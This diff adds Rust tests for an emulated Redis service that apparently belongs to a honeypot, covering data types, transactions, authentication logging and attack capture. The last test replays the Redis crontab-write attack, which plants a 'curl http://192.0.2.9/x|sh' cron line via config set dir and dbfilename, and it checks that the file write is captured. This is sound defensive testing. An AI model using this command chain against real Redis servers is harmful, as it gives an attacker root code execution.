@@ -1,0 +1,64 @@
+//! Conversations with the redis service.
+
+use netsvc_kit::{
+    Action,
+    testing::{converse, host, link, persona, sent, stage},
+};
+use netsvc_proto::services::redis::SERVICE;
+use netsvc_wire::Kind;
+
+fn talk(settings: &[(&str, &str)], input: &str) -> Vec<Action> {
+    let folder = tempfile::tempdir().unwrap();
+    let stage = stage(folder.path());
+    let host = host(&stage, persona("cache-01"), "redis", settings);
+    converse(&SERVICE, &host, &link(6379), &[input.as_bytes()])
+}
+
+fn check(settings: &[(&str, &str)], input: &str, expected: &str) {
+    assert_eq!(String::from_utf8(sent(&talk(settings, input))).unwrap(), expected, "{input:?}");
+}
+
+#[test]
+fn values_live_and_types_are_kept_apart() {
+    check(&[], "SET k v\r\nGET k\r\nTYPE k\r\nLPUSH k a\r\n", "+OK\r\n$1\r\nv\r\n+string\r\n-WRONGTYPE Operation against a key holding the wrong kind of value\r\n");
+    check(&[], "INCR n\r\nINCRBY n 41\r\nAPPEND n x\r\nINCR n\r\n", ":1\r\n:42\r\n:3\r\n-ERR value is not an integer or out of range\r\n");
+    check(&[], "RPUSH l a b c\r\nLRANGE l 0 -2\r\nLPOP l\r\n", ":3\r\n*2\r\n$1\r\na\r\n$1\r\nb\r\n$1\r\na\r\n");
+    check(&[], "SET t 1 EX 100\r\nTTL t\r\nPERSIST t\r\nTTL t\r\nTTL none\r\n", "+OK\r\n:100\r\n:1\r\n:-1\r\n:-2\r\n");
+}
+
+#[test]
+fn transactions_queue_and_abort() {
+    check(&[], "MULTI\r\nSET a 1\r\nGET a\r\nEXEC\r\n", "+OK\r\n+QUEUED\r\n+QUEUED\r\n*2\r\n+OK\r\n$1\r\n1\r\n");
+    check(
+        &[],
+        "MULTI\r\nNOPE\r\nEXEC\r\n",
+        "+OK\r\n-ERR unknown command 'NOPE', with args beginning with: \r\n-EXECABORT Transaction discarded because of previous errors.\r\n",
+    );
+}
+
+#[test]
+fn a_password_guards_and_every_pair_is_recorded() {
+    let actions = talk(&[("password", "s3cret")], "PING\r\nAUTH wrong\r\nAUTH default s3cret\r\nPING\r\n");
+    assert_eq!(
+        String::from_utf8(sent(&actions)).unwrap(),
+        "-NOAUTH Authentication required.\r\n-WRONGPASS invalid username-password pair or user is disabled.\r\n+OK\r\n+PONG\r\n"
+    );
+    let attempts = actions.iter().filter(|action| matches!(action, Action::Record(Kind::AuthAttempt, _)));
+    assert_eq!(attempts.count(), 2);
+}
+
+#[test]
+fn the_crontab_chain_is_captured_with_its_path() {
+    let actions = talk(
+        &[],
+        "set x \"\\n* * * * * curl http://192.0.2.9/x|sh\\n\"\r\nconfig set dir /var/spool/cron/\r\nconfig set dbfilename root\r\nsave\r\n",
+    );
+    assert_eq!(sent(&actions), b"+OK\r\n+OK\r\n+OK\r\n+OK\r\n");
+    let captured = actions.iter().find_map(|action| match action {
+        Action::Capture(Kind::FileCaptured, fields, content) => Some((fields.clone(), content.clone())),
+        _ => None,
+    });
+    let (fields, content) = captured.unwrap();
+    assert!(fields.iter().any(|(name, value)| *name == "path" && value == b"/var/spool/cron/root"));
+    assert!(content.windows(20).any(|window| window == b"curl http://192.0.2."));
+}
